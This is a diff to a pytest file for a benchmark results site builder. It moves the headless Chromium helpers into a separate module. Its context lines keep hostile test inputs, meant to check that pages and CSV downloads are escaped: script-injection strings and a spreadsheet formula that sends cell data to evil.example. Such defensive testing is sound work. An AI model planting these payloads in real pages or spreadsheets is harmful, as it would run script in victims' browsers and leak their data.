@@ -4,12 +4,12 @@ from __future__ import annotations
 
 import csv
 import os
-import shutil
 from pathlib import Path
 
 import pytest
 
 from amlb.site import build_site
+from amlb.site.headless import CHROMIUM_ARGS, find_chromium
 from amlb.site.sample import write_sample_run
 
 #: a task name and messages that would run script if any page or plot interpreted them as HTML
@@ -20,8 +20,6 @@ HOSTILE_PARAMS = '{"x": "</script><script>window.__xss=6</script>"}'
 HOSTILE_META = '<img src=x onerror="window.__xss=7">'
 #: a message that a spreadsheet opening the CSV download would run as a formula
 HOSTILE_FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"details")'
-CHROMIUM_ARGS = ["--headless", "--no-sandbox", "--disable-gpu", "--disable-quic", "--no-first-run",
-                 "--disable-background-networking", "--disable-component-update", "--disable-sync"]
 AMLB_HEADER = ["id", "task", "framework", "constraint", "fold", "type", "result", "metric", "mode", "version", "params",
                "app_version", "utc", "duration", "training_duration", "predict_duration", "models_count", "seed", "info",
                "acc", "balacc", "logloss", "auc"]
@@ -92,14 +90,6 @@ def site(tmp_path_factory: pytest.TempPathFactory, inputs: dict[str, Path]) -> P
     return out
 
 
-def find_chromium() -> str | None:
-    """$AMLB_CHROMIUM, Debian's /usr/bin/chromium, or a chromium on PATH."""
-    for candidate in (os.environ.get("AMLB_CHROMIUM"), "/usr/bin/chromium"):
-        if candidate and Path(candidate).is_file():
-            return candidate
-    return shutil.which("chromium") or shutil.which("chromium-browser")
-
-
 @pytest.fixture(scope="session")
 def browser():
     path = find_chromium()
@@ -110,6 +100,6 @@ def browser():
     except ImportError:
         pytest.skip("the playwright package is not installed")
     with sync_playwright() as p:
-        b = p.chromium.launch(executable_path=path, args=CHROMIUM_ARGS)
+        b = p.chromium.launch(executable_path=path, args=list(CHROMIUM_ARGS))
         yield b
         b.close()
